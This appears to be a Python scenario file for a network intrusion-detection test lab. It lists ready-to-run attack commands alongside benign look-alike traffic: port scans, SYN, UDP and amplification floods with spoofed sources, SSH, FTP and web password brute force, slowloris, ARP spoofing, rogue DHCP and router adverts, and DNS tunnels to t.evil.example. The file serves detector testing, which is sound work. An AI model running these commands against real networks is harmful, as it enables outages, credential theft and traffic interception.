"""What is recorded: every tool and mode with the type it must be called, and the look-alikes that must stay silent.

A scenario is one shell line per host, `{names}` filled in by record.py; the attack begins two seconds after the recorder
and the bystander. `source` is whom the alert must name: an address, a hardware address for layer 2, `*` where sources
are forged and nobody can be named, `lan` for any neighbour.
"""
from dataclasses import dataclass, field

from net import ATTACKER, BYSTANDER, LAN, LAN6, NAS, SERVER, TUNNEL_SERVER

ATTACKER_MAC = "02:00:00:00:07:42"


@dataclass(frozen=True)
class Scenario:
    name: str
    kind: str
    seconds: int
    lines: tuple
    source: str = ATTACKER
    servers: tuple = field(default=())

    @property
    def is_benign(self):
        return self.kind == "benign"


def attack(name, kind, seconds, line, *more, **rest):
    return Scenario(f"attack_{name}", kind, seconds, (("att", line), *more), **rest)


def benign(name, seconds, *lines, servers=()):
    return Scenario(f"benign_{name}", "benign", seconds, lines, source="", servers=servers)


NMAP = "nmap -n -Pn --disable-arp-ping"
TALK = "python3 {talk}"
IODINE = f"iodine -f -r -P secret {{mode}} {LAN}.1 t.evil.example & sleep 6; ping -c 60 -i 0.15 -s 300 10.99.0.1; kill %1"
IODINED = ("wan", f"iodined -f -c -l {TUNNEL_SERVER} -P secret 10.99.0.1/24 t.evil.example")


def iodine(mode):
    return attack(f"dns_tunnel_iodine{mode.replace(' ', '')}", "dns_tunnel", 28, IODINE.replace("{mode}", mode), servers=(IODINED,))


SCANS = [
    attack("scan_nmap_syn_top1000", "port_scan", 20, f"{NMAP} -sS -T4 --top-ports 1000 {SERVER}"),
    attack("scan_nmap_connect", "port_scan", 20, f"{NMAP} -sT -T4 --top-ports 200 {SERVER}"),
    attack("scan_nmap_fin", "port_scan", 20, f"{NMAP} -sF -p1-120 {SERVER}"),
    attack("scan_nmap_null", "port_scan", 20, f"{NMAP} -sN -p1-120 {SERVER}"),
    attack("scan_nmap_xmas", "port_scan", 20, f"{NMAP} -sX -p1-120 {SERVER}"),
    attack("scan_nmap_ack", "port_scan", 20, f"{NMAP} -sA -p1-300 {SERVER}"),
    attack("scan_nmap_window", "port_scan", 20, f"{NMAP} -sW -p1-200 {SERVER}"),
    attack("scan_nmap_maimon", "port_scan", 20, f"{NMAP} -sM -p1-120 {SERVER}"),
    attack("scan_nmap_udp", "port_scan", 30, f"{NMAP} -sU -T4 --max-retries 0 --top-ports 150 {SERVER}"),
    attack("scan_nmap_polite", "port_scan", 60, f"{NMAP} -sS -T2 --top-ports 100 {SERVER}"),
    attack("scan_nmap_slow5s", "port_scan", 240, f"{NMAP} -sS --scan-delay 5s --max-retries 0 -p20-64 {SERVER}"),
    attack("scan_nmap_fragments", "port_scan", 20, f"{NMAP} -sS -f -p1-150 {SERVER}"),
    attack("scan_nmap_ipv6", "port_scan", 20, f"{NMAP} -6 -sS -p1-300 2001:db8::10", source=f"{LAN6}::66"),
    attack("scan_nmap_of_neighbour", "port_scan", 20, f"{NMAP} -sS -p1-400 {NAS}"),
    attack("scan_nmap_block", "port_scan", 40, f"{NMAP} -sS -T4 --max-retries 1 -p1-60 198.51.100.0/28"),
    attack("scan_masscan", "port_scan", 20, f"masscan --wait 2 --rate 300 -p1-1000 {SERVER} --router-mac 02-00-00-00-07-01 -i eth0 --adapter-ip {ATTACKER}"),
    attack("scan_hping3", "port_scan", 20, f"hping3 --scan 1-400 -S {SERVER}"),
]
SWEEPS = [
    attack("sweep_nmap_arp", "host_sweep", 20, f"nmap -n -sn {LAN}.0/24"),
    attack("sweep_arp-scan", "host_sweep", 20, f"arp-scan -I eth0 {LAN}.0/24"),
    attack("sweep_nmap_echo", "host_sweep", 30, "nmap -n -sn -PE 198.18.5.0/24"),
    attack("sweep_fping", "host_sweep", 30, "fping -q -r 0 -i 20 -g 198.18.6.0/24"),
    attack("sweep_nmap_ssh", "host_sweep", 30, f"{NMAP} -sS --max-retries 0 -p22 198.18.7.0/24"),
    attack("sweep_nmap_three_ports", "host_sweep", 40, f"{NMAP} -sS --max-retries 0 -p22,80,445 198.51.100.0/24"),
    attack("sweep_masscan_telnet", "host_sweep", 20, f"masscan --wait 2 --rate 100 -p23 198.18.0.0/22 --router-mac 02-00-00-00-07-01 -i eth0 --adapter-ip {ATTACKER}"),
    attack("sweep_nmap_neighbours", "host_sweep", 20, f"nmap -n -Pn -sT --max-retries 0 -p445 {LAN}.0/24"),
]
FLOODS = [
    attack("syn_flood_hping3", "syn_flood", 12, f"timeout 8 hping3 -q -S -p 80 -i u1000 {SERVER}"),
    attack("syn_flood_hping3_forged", "syn_flood", 12, f"timeout 8 hping3 -q -S -p 80 -i u1000 --rand-source {SERVER}", source="*"),
    attack("udp_flood_hping3", "udp_flood", 12, f"timeout 8 hping3 -q --udp -p 9999 -d 300 -i u400 {SERVER}"),
    attack("udp_flood_hping3_forged", "udp_flood", 12, f"timeout 8 hping3 -q --udp -p 53 -d 120 -i u200 --rand-source {SERVER}", source="*"),
    attack("icmp_flood_hping3", "icmp_flood", 12, f"timeout 8 hping3 -q --icmp -d 120 -i u1000 {SERVER}"),
    attack("icmp_flood_ping", "icmp_flood", 12, f"timeout 8 ping -q -f {SERVER}"),
    attack("ddos_out_hping3", "ddos_out", 14, f"timeout 10 hping3 -q -S -p 80 -i u2500 {SERVER}",
           ("cam", f"timeout 10 hping3 -q -S -p 80 -i u2500 {SERVER}"), ("tv", f"timeout 10 hping3 -q -S -p 80 -i u2500 {SERVER}"), source="*"),
    attack("amplification_hping3", "amplification", 14, f"timeout 10 hping3 -q --udp -p 123 -s 5000 -k -d 48 -i u2000 --spoof {NAS} {SERVER}",
           source=SERVER, servers=(("wan", f"{TALK} reflector 60"),)),
    attack("http_flood_mute", "http_flood", 16, f"{TALK} mute 12", servers=(("wan", f"{TALK} mute-server 60"),)),
]
LOGINS = [
    attack("ssh_hydra", "ssh_brute_force", 32, f"timeout 28 hydra -l root -P {{passwords}} -t 4 -I ssh://{SERVER}"),
    attack("ssh_hydra_single", "ssh_brute_force", 75, f"timeout 70 hydra -l root -P {{passwords}} -t 1 -I ssh://{SERVER}"),
    attack("ssh_ncrack", "ssh_brute_force", 40, f"timeout 36 ncrack -u root -P {{passwords}} -T3 ssh://{SERVER}"),
    attack("ssh_medusa", "ssh_brute_force", 40, f"timeout 36 medusa -h {SERVER} -u root -P {{passwords}} -M ssh -t 2"),
    attack("ssh_spray_hydra", "ssh_brute_force", 50, f"timeout 46 hydra -L {{users}} -p Winter2026 -t 2 -I ssh://{SERVER}"),
    attack("ssh_spray_hosts", "ssh_brute_force", 60, "for h in $(seq 101 124); do timeout 8 hydra -l root -p Winter2026 -t 1 -I ssh://198.51.100.$h; done"),
    attack("ftp_hydra", "brute_force", 32, f"timeout 28 hydra -l admin -P {{passwords}} -t 4 -I ftp://{SERVER}"),
    attack("ftp_medusa", "brute_force", 40, f"timeout 36 medusa -h {SERVER} -u admin -P {{passwords}} -M ftp -t 2"),
    attack("ftp_ncrack", "brute_force", 40, f"timeout 36 ncrack -u admin -P {{passwords}} -T3 ftp://{SERVER}"),
    attack("web_hydra_basic", "web_brute_force", 25, f"timeout 20 hydra -l admin -P {{passwords}} -t 4 -I http-get://{SERVER}/private"),
    attack("web_hydra_form", "web_brute_force", 25, f'timeout 20 hydra -l admin -P {{passwords}} -t 4 -I {SERVER} http-post-form "/login:u=^USER^&p=^PASS^:bad"'),
    attack("web_posts", "web_brute_force", 30, f"{TALK} posts 26"),
]
SLOW = [
    attack("slowloris_slowhttptest", "slowloris", 40, f"slowhttptest -H -c 120 -i 8 -r 40 -l 34 -u http://{SERVER}/ -x 24 -p 3"),
    attack("slow_post_slowhttptest", "slow_post", 40, f"slowhttptest -B -c 120 -i 8 -r 40 -l 34 -s 8192 -u http://{SERVER}/upload -x 10 -p 3"),
    attack("slow_read_slowhttptest", "slowloris", 45, f"slowhttptest -X -c 120 -r 40 -l 38 -w 10 -y 20 -n 5 -z 32 -k 3 -u http://{SERVER}/big -p 3"),
]
NEIGHBOURS = [
    attack("arp_arpspoof_both", "arp_spoof", 30, f"timeout 24 arpspoof -i eth0 -t {BYSTANDER} {LAN}.1 & timeout 22 arpspoof -i eth0 -t {LAN}.1 {BYSTANDER}; wait", source=ATTACKER_MAC),
    attack("arp_arpspoof_gateway", "arp_spoof", 30, f"timeout 24 arpspoof -i eth0 -t {BYSTANDER} {LAN}.1", source=ATTACKER_MAC),
    attack("arp_arpspoof_all", "arp_spoof", 30, f"timeout 24 arpspoof -i eth0 {LAN}.1", source=ATTACKER_MAC),
    attack("dhcp_dnsmasq", "rogue_dhcp", 20, f"timeout 18 dnsmasq -C /dev/null --no-daemon --port=0 --bind-interfaces --interface=eth0 --dhcp-range={LAN}.200,{LAN}.210,1h --dhcp-leasefile=/dev/null",
           ("tv", "HOST=40 " + TALK + " dhcp 16")),
    attack("ra_fake_router6", "rogue_ra", 24, f"timeout 18 atk6-fake_router26 -A fd66::/64 -l 600 eth0", source="lan", servers=(("rtr", "dnsmasq -C /dev/null --no-daemon --port=0 --enable-ra --interface=br-lan --dhcp-range=fd07::,ra-only,64,600"),)),
]
TUNNELS = [iodine(mode) for mode in ("-T NULL", "-T TXT", "-T CNAME", "-T MX", "-T A", "-T TXT -O base32")] + [
    attack("dns_tunnel_dns2tcp", "dns_tunnel", 25, f"dns2tcpc -r www -z d2t.evil.example -l 8899 {LAN}.1 & sleep 3; for i in 1 2 3 4 5 6; do timeout 6 curl -s -o /dev/null http://127.0.0.1:8899/index.html; done",
           servers=(("wan", "dns2tcpd -F -f {dns2tcpd}"),)),
    attack("icmp_tunnel_ptunnel", "icmp_tunnel", 25, f"ptunnel -p {SERVER} -lp 8898 -da {SERVER} -dp 80 & sleep 2; for i in $(seq 10); do timeout 6 curl -s -o /dev/null http://127.0.0.1:8898/f20k; sleep 1; done",
           servers=(("wan", "ptunnel"),)),
]
BOTS = [
    attack("beacon_6s", "beaconing", 420, f"PERIOD=6 {TALK} beacon 410", servers=(("wan", f"{TALK} beacon-server 500"),)),
    attack("lateral_ssh_then_sweep", "lateral_movement", 40, "sleep 12; true", ("wan", f"ssh {{sshopts}} root@{NAS} 'sleep 6; nmap -n -Pn -sT --max-retries 0 -p22,445,3389 {LAN}.0/26; nmap -n -Pn -sS -p1-200 {LAN}.20'"), source=NAS),
]
BENIGN = [
    benign("browsing", 40, ("cli", f"THINK=2 {TALK} browse 36")),
    benign("browsing_three_devices", 40, ("cli", f"THINK=2 {TALK} browse 36"), ("tv", f"SEED=3 THINK=3 {TALK} browse 36"), ("nas", f"SEED=5 {TALK} names 36")),
    benign("backup", 40, ("cli", f"{TALK} backup 34"), servers=(("nas", f"ROLE=server {TALK} backup 90"),)),
    benign("backup_scp", 40, ("cli", f"for i in $(seq 12); do scp {{sshopts}} {{www}}/f20k {{www}}/f20k root@{NAS}:/dev/null & scp {{sshopts}} {{www}}/f20k root@{NAS}:/dev/null; wait; done")),
    benign("scp_loop", 45, ("cli", f"for i in $(seq 40); do scp {{sshopts}} {{www}}/f20k root@{SERVER}:/dev/null; sleep 0.5; done")),
    benign("ssh_mistyped", 40, ("cli", f"for p in a b c; do sshpass -p $p ssh -o PubkeyAuthentication=no -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@{SERVER} true; sleep 2; done; ssh {{sshopts}} root@{SERVER} true")),
    benign("chatter", 30, *((host, f"SEED={number} {TALK} chatter 26") for number, host in enumerate(("cli", "nas", "tv", "cam")))),
    benign("discovery_app", 40, ("cli", f"{TALK} discovery 36")),
    benign("torrent", 40, ("cli", f"{TALK} torrent 36"), servers=(("wan", f"{TALK} peers 90"),)),
    benign("ping_monitor", 40, ("nas", f"timeout 36 fping -q -l -p 1000 {LAN}.1 {LAN}.20 {LAN}.40 {LAN}.50 {SERVER} $(seq -f 198.51.100.%g 1 20)")),
    benign("game", 40, ("cli", f"{TALK} game 36"), servers=(("wan", f"{TALK} game-server 90"),)),
    benign("load_ab", 25, ("cli", f"ab -q -n 1500 -c 20 http://{SERVER}/index.html")),
    benign("load_wrk", 20, ("cli", f"wrk -t1 -c20 -d2s http://{SERVER}/index.html")),
    benign("names", 35, ("cli", f"{TALK} names 32")),
    benign("idle", 40, ("cli", f"{TALK} idle 36"), servers=(("wan", f"{TALK} idle-server 90"),)),
    benign("video", 40, ("tv", f"{TALK} video 36")),
    benign("iperf3", 25, ("cli", f"iperf3 -c {SERVER} -t 5 -b 40M; iperf3 -c {SERVER} -t 5 -R -b 40M; iperf3 -c {SERVER} -u -b 10M -t 6"), servers=(("wan", "iperf3 -s"),)),
    benign("web_poll", 40, ("tv", f"while true; do curl -s -o /dev/null http://{SERVER}/index.html; sleep 1; done"), ("cam", f"PERIOD=10 PORT=80 {TALK} beacon 36")),
]
ALL = SCANS + SWEEPS + FLOODS + LOGINS + SLOW + NEIGHBOURS + TUNNELS + BOTS + BENIGN
